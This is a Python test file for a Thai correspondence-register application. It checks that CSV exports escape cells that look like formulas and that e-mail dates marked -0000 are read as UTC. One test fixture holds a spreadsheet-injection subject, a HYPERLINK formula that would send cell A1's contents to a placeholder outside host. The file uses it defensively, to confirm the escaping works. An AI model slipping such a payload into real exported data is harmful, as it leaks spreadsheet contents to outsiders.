"""Text a letter carries never runs as a formula in a spreadsheet, and an e-mail's UTC time is
not taken for Bangkok time (#27 item 10)."""

from __future__ import annotations

import csv
from datetime import datetime
from email.message import EmailMessage
from pathlib import Path

from saraban.mail.messages import read_message
from saraban.services.register_view import register_rows, write_csv
from saraban.services.registers import receive
from saraban.services.spreadsheet import cell
from tests.services.helpers import parsed

NAN = "นน 0023"


def test_a_register_csv_writes_formula_looking_cells_as_text(ctx, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    # Before: a subject '=HYPERLINK(…)' was written as it is, and Calc or Excel ran it.
    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"เปิด")'
    receive(ctx, parsed("นน 0023.5/ว 10", subject=hostile), NAN, datetime(2024, 1, 3, 9, 0))
    receive(ctx, parsed("นน 0023.5/ว 11", subject="+ปรับแผนงบประมาณ"), NAN, datetime(2024, 1, 3, 9, 30))
    out = write_csv(register_rows(ctx, NAN, year=2567), tmp_path / "book.csv")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [value for row in rows[1:] for value in row]
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
    assert "'" + hostile in cells and "'+ปรับแผนงบประมาณ" in cells


def test_a_cell_is_left_alone_unless_it_starts_a_formula() -> None:
    assert cell("นน 0023.5/ว 10") == "นน 0023.5/ว 10"
    assert cell(None) == "" and cell(3) == "3"
    assert cell("@SUM(A1)") == "'@SUM(A1)" and cell("-1+2") == "'-1+2"


def _mail(date_header: str) -> bytes:
    message = EmailMessage()
    message["From"] = "saraban@nan.example.go.th"
    message["Subject"] = "หนังสือ"
    message["Date"] = date_header
    message.set_content("ส่งหนังสือ")
    return message.as_bytes()


def test_an_email_dated_minus_0000_is_utc() -> None:
    # Before: "-0000" was read as Bangkok time, and a mail of 08.40 was received at 01.40.
    assert read_message(_mail("Mon, 7 Dec 2026 01:40:00 -0000")).date == datetime(2026, 12, 7, 8, 40)
    assert read_message(_mail("Mon, 7 Dec 2026 01:40:00 +0000")).date == datetime(2026, 12, 7, 8, 40)
    assert read_message(_mail("Mon, 7 Dec 2026 08:40:00 +0700")).date == datetime(2026, 12, 7, 8, 40)
